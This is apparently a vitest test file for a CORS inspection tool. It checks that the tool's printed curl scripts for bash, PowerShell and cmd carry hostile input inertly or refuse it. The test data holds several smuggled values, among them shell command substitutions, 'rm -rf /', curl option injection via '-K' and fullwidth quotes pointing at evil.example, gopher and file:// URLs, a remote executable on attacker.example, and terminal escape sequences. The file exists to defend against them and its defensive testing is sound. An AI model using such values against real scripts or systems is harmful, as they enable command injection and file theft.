// The printed scripts, run the way each shell runs them (testing-curl-shells.ts): what curl receives
// must be exactly the intended arguments, or nothing at all when the export refuses.

import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { bashExitStatus, CMD_SETUP, CMD_SHOW_HEADERS, curlCommands, curlScript, HEADER_FILTERS, renderCurlScript } from './curl.ts';
import type { CurlPair, CurlRequest } from './curl-requests.ts';
import type { Shell } from './shell-quote.ts';
import { cmdCurlCommands } from './testing-cmd.ts';
import { BASH_SCRIPT_LINE, curlPairOf, curlRequest, readCurlArguments } from './testing-curl.ts';
import { HAVE_ZSH, IN_CI, SHELLS_UNDER_TEST, ZSH_NOTE, type Received } from './testing-curl-shells.ts';
import { UNPRINTABLE } from './visible-text.ts';

const intended = (shell: Shell, pair: CurlPair): Received[] => {
  const built = curlCommands(shell, pair);
  return built.ok ? built.commands.map((command) => ({ args: command.args, stdin: command.stdin })) : [];
};

const pair: CurlPair = curlPairOf(
  curlRequest({
    method: 'POST',
    headers: [['X-Note', 'a" -K C:\\evil "b'], ['Origin', 'http://app.test']],
    body: 'line1\nline2',
    expected: ['Access-Control-Allow-Origin: http://app.test'],
  }),
);

describe('the script around the commands', () => {
  it('PowerShell runs nothing below 7.3, even pasted: the whole script is one if', () => {
    const lines = curlScript('powershell', pair, { title: 't' }).split('\n');
    expect(lines[0]).toMatch(/^if \(\$PSVersionTable\.PSVersion -lt \[version\]'7\.3'\) \{ throw .*\} else \{$/);
    expect(lines[1]).toBe("$PSNativeCommandArgumentPassing = 'Standard'");
    expect(lines.at(-2)).toBe('}');
  });

  it('cmd: for the prompt; a batch file stops at the first line', () => {
    const script = curlScript('cmd', curlPairOf(curlRequest({ url: 'http://api.test/a%20b' })), { title: 'a & b' });
    expect(script).toContain('REM CORS Inspector: a ^& b');
    const cmd = SHELLS_UNDER_TEST.find((s) => s.shell === 'cmd')!;
    expect(cmd.run(script)).toHaveLength(1);
  });

  // test/unit/curl-hostile-server.test.ts runs the bash filter against a hostile server.
  it('each command ends in the pipe that shows the controls in the response headers (bash, PowerShell)', () => {
    for (const shell of ['bash', 'powershell'] as const) {
      // In bash, a body with a NUL goes on standard input (`printf ... |` before the command).
      const preflighted = curlPairOf(curlRequest({ method: 'PUT', body: shell === 'bash' ? 'a\0b' : 'ab' }), curlRequest({ role: 'preflight', method: 'OPTIONS' }));
      const filter = `  ${HEADER_FILTERS[shell]!}`;
      const lines = curlScript(shell, preflighted, { title: 't' }).split('\n');
      const commands = lines.filter((line) => /^(?:curl|curl\.exe) /.test(line));
      expect(commands).toHaveLength(2);
      // bash: then the exit status of curl, the pipeline's first command, or its second after `printf ... |`.
      const filterLines = shell === 'bash' ? [filter + bashExitStatus(0), filter + bashExitStatus(1)] : [filter, filter];
      expect(lines.filter((line) => line.startsWith(filter))).toEqual(filterLines);
      // Right after each command's last argument line.
      for (const [i, line] of lines.entries()) if (line.startsWith(filter)) expect(lines[i - 1]).toMatch(/ [\\`]$/);
      expect(lines.filter((line) => /^ *\|/.test(line) && !line.startsWith(filter))).toEqual([]);
    }
  });

  it('the script says once, under its title, what the lines after each command do', () => {
    const said = { bash: '# Each command prints the response headers with control characters shown as text by cat -v, and exits with the exit status of curl.', powershell: '# Each command prints the response headers with control characters as text (ESC as \\x1b).', cmd: 'REM Each curl.exe writes the response headers to a file of its own in your TEMP folder; the line after it shows them with control characters as text (ESC as \\x1b) and deletes the file. The set lines before each curl.exe make this cmd window look for programs on PATH only, never in the current folder (close the window to undo).' };
    for (const shell of ['bash', 'powershell', 'cmd'] as const) {
      const lines = curlScript(shell, curlPairOf(curlRequest({ method: 'PUT', body: 'ab' }), curlRequest({ role: 'preflight', method: 'OPTIONS' })), { title: 't' }).split('\n');
      const title = lines.findIndex((line) => line.endsWith('CORS Inspector: t'));
      expect(lines[title + 1], shell).toBe(said[shell]);
      expect(lines.filter((line) => line === said[shell])).toHaveLength(1);
    }
  });

  it('cmd: each curl.exe writes the headers to a file, and the next line shows them through PowerShell and deletes it', () => {
    const preflighted = curlPairOf(curlRequest({ method: 'PUT', body: 'ab' }), curlRequest({ role: 'preflight', method: 'OPTIONS' }));
    const script = curlScript('cmd', preflighted, { title: 't' });
    const lines = script.split('\n');
    const starts = lines.flatMap((line, i) => (line.startsWith('curl.exe ') ? [i] : []));
    expect(starts).toHaveLength(2);
    for (const start of starts) {
      let end = start;
      while (lines[end]!.endsWith(' ^')) end++;
      expect(lines[end + 1]).toBe(CMD_SHOW_HEADERS);
    }
    expect(lines.filter((line) => line.startsWith('"%SystemRoot%\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" '))).toHaveLength(2);
    // The file is in the person's TEMP folder, named by the set line before any curl.exe: never a
    // fixed name in the current folder, where someone else could have put a file or a link.
    const windows = (name: string): string | undefined => ({ TEMP: 'C:\\Users\\A&B\\AppData\\Local\\Temp', RANDOM: '1234' })[name.toUpperCase()];
    for (const args of cmdCurlCommands(script, { environment: windows })) expect(args.slice(args.indexOf('-D'), args.indexOf('-D') + 2)).toEqual(['-D', 'C:\\Users\\A&B\\AppData\\Local\\Temp\\cors-inspector-headers-12341234.txt']);
    for (const start of starts) expect(lines.slice(start - 2, start), String(start)).toEqual(CMD_SETUP);
    // Its one `%` is that of `%SystemRoot%` (testing-cmd.test.ts checks what cmd makes of it).
    expect(CMD_SHOW_HEADERS.replace('%SystemRoot%', '')).not.toMatch(/[%!]/);
  });

  it('cmd: each block, pasted alone into a new cmd window, sets both variables before its curl.exe and shows its own headers', () => {
    // A person may copy one block (`REM 2. The actual request:` and its lines) rather than the whole
    // script: curl.exe must still come from PATH, and the headers go to TEMP, never to a file named
    // `%CORS_INSPECTOR_HEADERS%` in the current folder. The model refuses either in a block alone.
    const preflighted = curlPairOf(curlRequest({ method: 'PUT', body: 'ab' }), curlRequest({ role: 'preflight', method: 'OPTIONS' }));
    const blocks = curlScript('cmd', preflighted, { title: 't' }).split('\n\n');
    expect(blocks).toHaveLength(3);
    const fresh = (name: string): string | undefined => ({ TEMP: 'C:\\Temp', RANDOM: '42', SYSTEMROOT: 'C:\\Windows' })[name.toUpperCase()];
    for (const block of blocks.slice(1)) {
      const commands = cmdCurlCommands(block, { environment: fresh });
      expect(commands).toHaveLength(1);
      expect(commands[0]![commands[0]!.indexOf('-D') + 1]).toBe('C:\\Temp\\cors-inspector-headers-4242.txt');
    }
    // Run where the variable is not set (a line copied on its own), PowerShell does nothing.
    expect(CMD_SHOW_HEADERS).toContain('-Command "if ($env:CORS_INSPECTOR_HEADERS) { Get-Content -LiteralPath $env:CORS_INSPECTOR_HEADERS ');
    expect(CMD_SHOW_HEADERS).toMatch(/Remove-Item -LiteralPath \$env:CORS_INSPECTOR_HEADERS -ErrorAction Ignore \}"$/);
  });

  it('every line of the bash script is a comment, blank, or part of the curl command', () => {
    for (const line of curlScript('bash', pair, { title: 'x\n rm -rf /' }).split('\n')) {
      expect(line).toMatch(BASH_SCRIPT_LINE);
    }
  });

  it('a body over 64 KiB or with a NUL goes to curl on standard input in bash, from printf', () => {
    const script = curlScript('bash', curlPairOf(curlRequest({ method: 'PUT', body: 'a\0b' })), { title: 't' });
    expect(script).toMatch(/\nprintf '%s\\0%s' a b \|\ncurl /);
    expect(script).toContain('--data-binary @-');
  });
});

// The hostile inputs of issue #7, one by one.
const refused: [string, CurlPair, RegExp][] = [
  // Since session 39 the comment names it by its `@` only (what follows a delimiter may be a secret);
  // the next one keeps a name the shells read specially whole in the comment.
  ['a header name that reads a file', curlPairOf(curlRequest({ headers: [['@/etc/passwd\0', 'x']] })), /header name starting with "@" is not an HTTP token/],
  ['a header name of shell characters', curlPairOf(curlRequest({ headers: [["x-$(id)`id`'!%PATH%^&|\0", 'x']] })), /header name starting "x-\$" is not an HTTP token/],
  ['a header name of shell characters, whole', curlPairOf(curlRequest({ headers: [["x-shell-chars$`id`'!%PATH%^&|\0", 'x']] })), /header name "x-shell-chars\$`id`'!%PATH%\^&\|\\x00" is not an HTTP token/],
  ['a header name with a space', curlPairOf(curlRequest({ headers: [['X Y', 'x']] })), /not an HTTP token/],
  ['a header name with a colon', curlPairOf(curlRequest({ headers: [['X:Y', 'x']] })), /not an HTTP token/],
  ['a header name with CRLF', curlPairOf(curlRequest({ headers: [['X\r\nY', 'x']] })), /not an HTTP token/],
  ['a CR LF in a value', curlPairOf(curlRequest({ headers: [['X-A', 'a\r\nInjected: 1']] })), /line break or NUL/],
  ['a URL that is the -K option', curlPairOf(curlRequest({ url: '-K/tmp/curlrc' })), /not an absolute http or https URL/],
  ['a URL that is the -o option', curlPairOf(curlRequest({ url: '-o/tmp/out' })), /not an absolute http or https URL/],
  ['gopher', curlPairOf(curlRequest({ url: 'gopher://127.0.0.1:6379/_x' })), /scheme "gopher:"/],
  ['dict', curlPairOf(curlRequest({ url: 'dict://127.0.0.1:11211/x' })), /scheme "dict:"/],
  ['file', curlPairOf(curlRequest({ url: 'file:///etc/passwd' })), /scheme "file:"/],
  ['data', curlPairOf(curlRequest({ url: 'data:text/plain,x' })), /scheme "data:"/],
  // The actual request is fine; its preflight is not: no command for either.
  ['a bad preflight', curlPairOf(curlRequest(), curlRequest({ role: 'preflight', method: 'OPTIONS', headers: [['@x', 'y']] })), /not an HTTP token/],
];

const carried: [string, CurlPair][] = [
  ['an OSC 52 sequence and ESC in a value', curlPairOf(curlRequest({ headers: [['X-A', 'a\x1b]52;c;aGk=\x07b\x1b[31m']] }))],
  ['C1 and bidi controls', curlPairOf(curlRequest({ headers: [['X-A', '\x85\x9b\u202eevil\u2066']] }))],
  ['expansions', curlPairOf(curlRequest({ url: "http://api.test/$(id)/`id`/it's?x=%PATH%&y=!x!&z=^", headers: [['X-A', '$(touch /tmp/cors-inspector-pwned) `id` ${HOME} %PATH% !! ^ &calc']] }))],
  ['quotes of every kind', curlPairOf(curlRequest({ headers: [['X-A', `' " \` ‘ ’ ‚ ‛ “ ” „ \\" \\`]] }))],
  ['a body that looks like a file', curlPairOf(curlRequest({ method: 'POST', body: '@/etc/passwd' }))],
  ['a body that is stdin', curlPairOf(curlRequest({ method: 'POST', body: '@-' }))],
  ['a body with CRLF and a trailing newline', curlPairOf(curlRequest({ method: 'PUT', body: 'a=1\r\nb=2\n' }))],
  ['a body with NUL', curlPairOf(curlRequest({ method: 'PUT', body: '\0a\0\0b\0' }))],
  ['a body with the here-document delimiter that a naive script would use', curlPairOf(curlRequest({ method: 'PUT', body: 'x\nEOF\n' + 'y'.repeat(70_000) + '\nEOF' }))],
  ['an empty body', curlPairOf(curlRequest({ method: 'POST', body: '' }))],
  ['a method that looks like an option', curlPairOf(curlRequest({ method: '-K' }))],
  ['unicode', curlPairOf(curlRequest({ url: 'http://api.test/%C3%BC', headers: [['X-A', 'ünï ✓ 😀']], body: '{"ü":"✓ 😀"}', method: 'PATCH' }))],
  ['a preflight and a request', curlPairOf(curlRequest({ method: 'PUT', headers: [['X-A', "it's"]], body: 'x' }), curlRequest({ role: 'preflight', method: 'OPTIONS', headers: [['Access-Control-Request-Method', 'PUT']] }))],
];

describe(`hostile exchanges in every shell${ZSH_NOTE}`, () => {
  it.runIf(IN_CI)('zsh is installed (CI runs the zsh round trips)', () => {
    expect(HAVE_ZSH).toBe(true);
  });

  // A refused script is comments only: one real run as a file and one pasted into zsh (where "#" is
  // no comment) are enough; the comment test below covers every real shell.
  const refusalShells = SHELLS_UNDER_TEST.filter((s) => !s.real || s.name === 'bash' || s.name.startsWith('zsh, pasted'));
  describe.each(refusalShells)('$name', ({ shell, run }) => {
    it.each(refused)('refuses %s: no command runs, a comment says why', (_about, hostile, reason) => {
      const { script, refusal } = renderCurlScript(shell, hostile, { title: 'hostile' });
      expect(refusal).toMatch(reason);
      expect(run(script)).toEqual([]);
      expect(script).toContain(`No curl command: ${refusal!.slice(0, 30)}`);
    });
  });

  describe.each(SHELLS_UNDER_TEST)('$name', ({ shell, run }) => {
    it.each(carried)('%s: curl receives exactly the intended arguments, or nothing and a reason', (_about, hostile) => {
      const { script, refusal } = renderCurlScript(shell, hostile, { title: 'hostile \x1b]52;c;aGk=\x07' });
      const received = run(script);
      expect(received).toEqual(intended(shell, hostile));
      expect(received.length === 0).toBe(refusal !== null);
      for (const call of received) readCurlArguments(call.args);
    });
  });

  it.each(SHELLS_UNDER_TEST.filter((s) => s.real))('$name: comments run nothing, even where "#" is no comment', ({ run }) => {
    const dir = mkdtempSync(join(tmpdir(), 'cors-curl-comment-'));
    const ran = join(dir, 'ran');
    const truncated = join(dir, 'truncated');
    writeFileSync(truncated, 'kept');
    const hostile = curlPairOf(curlRequest({ expected: [`X: $(touch ${ran}) \`touch ${ran}\` > ${truncated}; touch ${ran} | touch ${ran} & touch ${ran}`] }));
    run(curlScript('bash', hostile, { title: `t $(touch ${ran}); touch ${ran} > ${truncated} 'x' "y" !!` }));
    expect(existsSync(ran)).toBe(false);
    expect(readFileSync(truncated, 'utf8')).toBe('kept');
    rmSync(dir, { recursive: true });
  });

  it.each<Shell>(['bash', 'powershell', 'cmd'])('%s: nothing unprintable is printed raw, in commands or comments', (shell) => {
    for (const [, hostile] of [...refused, ...carried]) {
      const withExpected = { ...hostile, request: { ...hostile.request, expected: ['X: \x1b]52;c;aGk=\x07 \u202e'] } };
      const script = curlScript(shell, withExpected, { title: '\x1b[2J\u202e\x9b' });
      expect(UNPRINTABLE.test(script.replace(/\n/g, ''))).toBe(false);
    }
  });

  it('cmd refuses what it cannot carry, and says which version can', () => {
    const body = renderCurlScript('cmd', curlPairOf(curlRequest({ method: 'POST', body: 'a\nb' })), { title: 't' });
    expect(body.refusal).toBe('cmd.exe cannot carry line breaks, tabs or other control characters in the body; use the PowerShell or bash version');
    const bang = renderCurlScript('cmd', curlPairOf(curlRequest({ headers: [['X-A', 'hi!']] })), { title: 't' });
    expect(bang.refusal).toMatch(/^cmd\.exe cannot carry a "!" .* in a header, the method or the URL; use the PowerShell or bash version$/);
    const long = renderCurlScript('cmd', curlPairOf(curlRequest({ headers: [['X-A', 'x'.repeat(9000)]] })), { title: 't' });
    expect(long.refusal).toMatch(/more than cmd\.exe reads in one line \(8,191\)/);
  });

  it("cmd: the command's length counts the headers file's path as cmd expands it (up to 260 characters), not its variable's name", () => {
    // The typed lines of a command, without the header X-A's value.
    const typed = (value: string): number => {
      const lines = curlScript('cmd', curlPairOf(curlRequest({ headers: [['X-A', value]] })), { title: 't' }).split('\n');
      const start = lines.findIndex((line) => line.startsWith('curl.exe '));
      let end = start;
      while (lines[end]!.endsWith(' ^')) end++;
      return lines.slice(start, end + 1).reduce((sum, line) => sum + line.length, 0) - value.length;
    };
    const base = typed('x');
    // 100 characters under the limit as typed: over it once `"%CORS_INSPECTOR_HEADERS%"` is a long TEMP path.
    const near = renderCurlScript('cmd', curlPairOf(curlRequest({ headers: [['X-A', 'x'.repeat(8191 - 100 - base)]] })), { title: 't' });
    expect(near.refusal).toMatch(/^the command would be up to 8,325 characters, more than cmd\.exe reads in one line \(8,191\)/);
    const fits = renderCurlScript('cmd', curlPairOf(curlRequest({ headers: [['X-A', 'x'.repeat(8191 - 300 - base)]] })), { title: 't' });
    expect(fits.refusal).toBeNull();
  });

  it('cmd: a comment longer than cmd.exe reads in one line is written on several REM lines', () => {
    // A URL of 9,000 characters in the title: cmd reads at most 8,191 characters of a line, and
    // what it makes of the rest (here `&calc.exe` and a program on a share) must never be a question.
    const url = `http://api.test/${'a'.repeat(8170)}&calc.exe&\\\\attacker.example\\s\\x.exe^${'%'.repeat(4000)}😀`;
    const { script, refusal } = renderCurlScript('cmd', curlPairOf(curlRequest({ url, expected: [`X: ${url}`] })), { title: `GET ${url}` });
    expect(refusal).toMatch(/more than cmd\.exe reads in one line/);
    for (const line of script.split('\n')) expect(line.length).toBeLessThanOrEqual(8191);
    expect(cmdCurlCommands(script)).toEqual([]);
    // Read together, the REM lines say all of it, each character escaped as before.
    const said = script
      .split('\n')
      .filter((line) => line.startsWith('REM '))
      .map((line) => line.slice(4))
      .join('');
    expect(said).toContain(`CORS Inspector: GET ${url}`.replace(/[&|<>^%]/g, '^$&'));
  });

  it('PowerShell refuses a NUL in the body and the "--%" token; bash carries both', () => {
    expect(renderCurlScript('powershell', curlPairOf(curlRequest({ method: 'POST', body: 'a\0' })), { title: 't' }).refusal).toMatch(/NUL/);
    expect(renderCurlScript('powershell', curlPairOf(curlRequest({ method: 'POST', body: '--%' })), { title: 't' }).refusal).toMatch(/--%/);
    expect(renderCurlScript('bash', curlPairOf(curlRequest({ method: 'POST', body: '--%\0' })), { title: 't' }).refusal).toBe(null);
  });
});

// WorstFit (Orange Tsai, 2025): a Windows program that reads its command line through the ANSI code
// page gets each character outside it "best-fit": U+FF02 (fullwidth quotation mark) becomes `"` and
// U+FF3C `\`, which end the C runtime's quoting that PowerShell and cmd wrote, so that a HAR's author
// could add curl options (`-K`, `-o`, `--next`). Whether curl.exe reads its command line so is not
// established: no Windows script carries a character outside ASCII to it at all (an `é` would not
// arrive as its UTF-8 either). bash has no such conversion and carries them all.
describe('PowerShell and cmd: curl.exe gets no character outside ASCII', () => {
  const windows = SHELLS_UNDER_TEST.filter((s) => s.shell !== 'bash');
  const refusedOutside: [string, CurlRequest, RegExp][] = [
    ['a fullwidth quote in a header value', curlRequest({ headers: [['X-Trace', 'a\uff02 -K \\\\evil.example\\share\\c.txt -o %TEMP%\\\\..\\\\x.bat \uff02']] }), /^the value of the X-Trace header holds U\+FF02, a character outside ASCII: /],
    ['a fullwidth quote in the body', curlRequest({ method: 'POST', body: 'body\uff02 --next --url http://evil.example/' }), /^the body holds U\+FF02, a character outside ASCII: /],
    ['a fullwidth backslash in a header value', curlRequest({ headers: [['X-Path', 'a\uff3c\uff02 -K x']] }), /^the value of the X-Path header holds U\+FF3C, a character outside ASCII: /],
    ['an ordinary letter outside ASCII (é) in the body', curlRequest({ method: 'POST', body: '{"name":"Ren\u00e9e"}' }), /^the body holds U\+00E9, a character outside ASCII: /],
    ['an astral character in a header value', curlRequest({ headers: [['X-Mood', '\u{1f600}']] }), /^the value of the X-Mood header holds U\+1F600, a character outside ASCII: /],
  ];

  describe.each(windows)('$name', ({ shell, run }) => {
    it.each(refusedOutside)('%s: no command, the reason, and the bash version named', (_what, request, reason) => {
      const { script, refusal } = renderCurlScript(shell, curlPairOf(request), { title: 't' });
      expect(refusal).toMatch(reason);
      expect(refusal).toMatch(/ANSI code page.*use the bash version \(WSL or Git Bash\)$/);
      // The reason is the tool's own words: ASCII, whatever the capture held.
      expect(refusal).toMatch(/^[\x20-\x7e]+$/);
      expect(script).toContain(`No curl command: ${refusal!.slice(0, 40)}`);
      expect(run(script)).toEqual([]);
    });

    it('before the reasons that name the other Windows shell: the bash version is the one that carries it', () => {
      // cmd alone could not carry the line break either, nor PowerShell the NUL; neither carries the é.
      const body = shell === 'cmd' ? 'Ren\u00e9e\n' : 'Ren\u00e9e\0';
      expect(renderCurlScript(shell, curlPairOf(curlRequest({ method: 'POST', body })), { title: 't' }).refusal).toMatch(/^the body holds U\+00E9, .*use the bash version \(WSL or Git Bash\)$/);
    });

    it('a fullwidth quote in the URL is sent percent-encoded (the URL as the browser requested it): the command is kept, all ASCII', () => {
      const request = curlRequest({ url: 'http://api.test/a\uff02b?q=\uff3c\u00e9' });
      const { script, refusal } = renderCurlScript(shell, curlPairOf(request), { title: 't' });
      expect(refusal).toBeNull();
      const [received] = run(script);
      expect(readCurlArguments(received!.args).url).toBe('http://api.test/a%EF%BC%82b?q=%EF%BC%BC%C3%A9');
      for (const arg of received!.args) expect(arg).toMatch(/^[\x00-\x7f]*$/);
    });

    it('plain ASCII, quotes and backslashes included, is carried as before', () => {
      const request = curlRequest({ method: 'POST', headers: [['X-Note', 'a" -K C:\\evil "b\\']], body: '{"a":"b\\\\"}' });
      const { script, refusal } = renderCurlScript(shell, curlPairOf(request), { title: 'caf\u00e9 \uff02 in a comment only' });
      expect(refusal).toBeNull();
      expect(run(script)).toEqual(intended(shell, curlPairOf(request)));
    });
  });

  it('bash carries all of them exactly', () => {
    for (const [, request] of refusedOutside) expect(renderCurlScript('bash', curlPairOf(request), { title: 't' }).refusal).toBeNull();
  });
});
